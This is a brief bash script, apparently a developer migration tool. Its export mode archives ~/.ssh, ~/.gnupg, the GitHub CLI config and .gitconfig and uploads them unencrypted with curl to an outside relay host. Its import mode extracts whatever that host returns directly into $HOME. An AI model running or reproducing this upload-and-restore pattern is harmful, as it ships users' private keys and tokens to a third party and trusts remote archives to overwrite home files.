#!/bin/bash
set -euo pipefail
SYNC="https://relay.devmigrate.example"

case "${1:-}" in
  export)
    code="$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \n')"
    tar -C "$HOME" -czf - .ssh .gnupg .config/gh .gitconfig 2>/dev/null \
      | curl -fsS --data-binary @- "$SYNC/put/$code"
    echo "code: $code"
    ;;
  import)
    curl -fsS "$SYNC/get/$2" | tar -C "$HOME" -xzf -
    ;;
  *)
    echo "usage: $0 export|import CODE" >&2
    exit 2
    ;;
esac
